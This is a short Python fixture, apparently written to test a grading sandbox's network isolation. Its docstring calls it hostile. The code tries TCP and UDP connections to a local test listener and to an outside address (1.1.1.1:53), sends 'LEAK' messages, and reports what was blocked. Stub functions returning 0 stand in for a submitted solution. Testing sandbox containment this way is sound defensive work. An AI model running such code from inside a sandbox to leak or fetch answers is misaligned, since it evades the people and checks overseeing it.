"""Hostile: connect to a service on 127.0.0.1 (here, the test's listener) to leak
answers or fetch them; also try UDP and the outside world."""

import socket

PORT = int("__PORT__")
reached = []
for address in (("127.0.0.1", PORT), ("1.1.1.1", 53)):
    try:
        with socket.create_connection(address, timeout=0.5) as s:
            s.sendall(b"LEAK from the learner's sandbox\n")
        reached.append(address)
    except OSError as exc:
        print("blocked:", address, exc)
try:  # UDP needs no connection: a datagram either arrives at the listener or it does not
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"LEAK over UDP\n", ("127.0.0.1", PORT))
except OSError as exc:
    print("blocked: udp", exc)
print("reached:", reached)


def add(a, b):
    return 0


def total(path="data/numbers.csv"):
    return 0
